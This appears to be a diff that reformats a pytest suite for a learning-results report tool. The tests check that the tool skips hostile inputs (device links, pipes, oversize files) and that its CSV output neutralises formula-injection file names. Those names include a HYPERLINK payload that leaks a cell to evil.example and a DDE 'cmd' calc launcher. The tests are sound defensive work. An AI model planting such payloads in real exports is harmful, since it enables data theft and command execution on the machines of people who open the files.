@@ -3,6 +3,7 @@ formulas or split CSV rows, named pipes, devices, /proc/kmsg behind a link,
 broken links, folders, upper-case names, oversize files and too many bytes in
 all, and outputs that overlap or cannot be written. Each file given is either
 counted or listed as skipped; the command always ends."""
+
 from __future__ import annotations
 
 import csv
@@ -18,20 +19,38 @@ import pytest
 
 ROOT = Path(__file__).resolve().parents[1]
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
-FORMULA_NAMES = ['=HYPERLINK("evil.example?leak="&A1,"click").json', "+cmd|' -C calc'!A0.json",
-                 "@SUM(1+1)*cmd.json", "-2+3.json", "row\rsplit.json", "tab\tname.json"]
+FORMULA_NAMES = [
+    '=HYPERLINK("evil.example?leak="&A1,"click").json',
+    "+cmd|' -C calc'!A0.json",
+    "@SUM(1+1)*cmd.json",
+    "-2+3.json",
+    "row\rsplit.json",
+    "tab\tname.json",
+]
 
 
 def _record(i: int, **extra) -> dict:
-    return {"format": "iliopsoas-lessons-results", "schema_version": 1, "package_version": "0.1.0",
-            "learner_id": f"{i:032x}", "pseudonym": None,
-            "exercises": {"quiz": {}, "red_flag_cases": {}, "pain_map": {}}, **extra}
+    return {
+        "format": "iliopsoas-lessons-results",
+        "schema_version": 1,
+        "package_version": "0.1.0",
+        "learner_id": f"{i:032x}",
+        "pseudonym": None,
+        "exercises": {"quiz": {}, "red_flag_cases": {}, "pain_map": {}},
+        **extra,
+    }
 
 
 def _run(args, cwd, timeout=120) -> subprocess.CompletedProcess:
     env = {**os.environ, "PYTHONPATH": str(ROOT)}
-    return subprocess.run([sys.executable, "-m", "iliopsoas_lessons.report", *map(str, args)],
-                          capture_output=True, text=True, timeout=timeout, cwd=cwd, env=env)
+    return subprocess.run(
+        [sys.executable, "-m", "iliopsoas_lessons.report", *map(str, args)],
+        capture_output=True,
+        text=True,
+        timeout=timeout,
+        cwd=cwd,
+        env=env,
+    )
 
 
 @pytest.fixture
@@ -49,7 +68,7 @@ def hostile(tmp_path):
     (folder / "kmsg.json").symlink_to("/proc/kmsg")
     (folder / "zero.json").symlink_to("/dev/zero")
     (folder / "broken.json").symlink_to(tmp_path / "nowhere.json")
-    (folder / "adir.json").mkdir()                     # a folder named .json: walked, holds nothing
+    (folder / "adir.json").mkdir()  # a folder named .json: walked, holds nothing
     (folder / "linked-dir.json").symlink_to(tmp_path)  # a link to a folder: not followed
     (folder / "big.json").write_bytes(b'{"x": "' + b"y" * 1_100_000 + b'"}')
     os.mkfifo(tmp_path / "given-pipe")
@@ -90,10 +109,20 @@ def test_every_hostile_file_is_counted_or_skipped_and_the_command_ends(hostile, 
 
 def test_the_csv_cells_cannot_be_formulas_and_rows_stay_whole(hostile, tmp_path):
     folder, _, _ = hostile
-    for name in FORMULA_NAMES[:3]:   # the same names skipped, so they land in cells of their own
+    for name in FORMULA_NAMES[:3]:  # the same names skipped, so they land in cells of their own
         (folder / name).write_text("{not json")
-    run = _run(["in/" + FORMULA_NAMES[0], "in/" + FORMULA_NAMES[1], FORMULA_NAMES[2],
-                "in/" + FORMULA_NAMES[4], "-o", "r.html"], cwd=tmp_path, timeout=60)
+    run = _run(
+        [
+            "in/" + FORMULA_NAMES[0],
+            "in/" + FORMULA_NAMES[1],
+            FORMULA_NAMES[2],
+            "in/" + FORMULA_NAMES[4],
+            "-o",
+            "r.html",
+        ],
+        cwd=tmp_path,
+        timeout=60,
+    )
     # the third is not in the cwd: "no such file", its name still starts a cell
     text = (tmp_path / "r.csv").read_text(encoding="utf-8")
     rows = list(csv.reader(io.StringIO(text, newline="")))
@@ -124,8 +153,11 @@ def test_a_trailing_newline_id_is_not_a_second_learner(tmp_path):
     rec = _record(7)
     (tmp_path / "a.json").write_text(json.dumps(rec))
     (tmp_path / "b.json").write_text(json.dumps({**rec, "learner_id": rec["learner_id"] + "\n"}))
-    (tmp_path / "c.json").write_text(json.dumps(
-        {**_record(8), "exercises": {"quiz": {"q1\n": {"first": {"answer": 0, "correct": True}, "later": []}}}}))
+    (tmp_path / "c.json").write_text(
+        json.dumps(
+            {**_record(8), "exercises": {"quiz": {"q1\n": {"first": {"answer": 0, "correct": True}, "later": []}}}}
+        )
+    )
     got = collect([tmp_path])
     assert got.learners == 1
     why = {p.name: w for p, w in got.skipped}
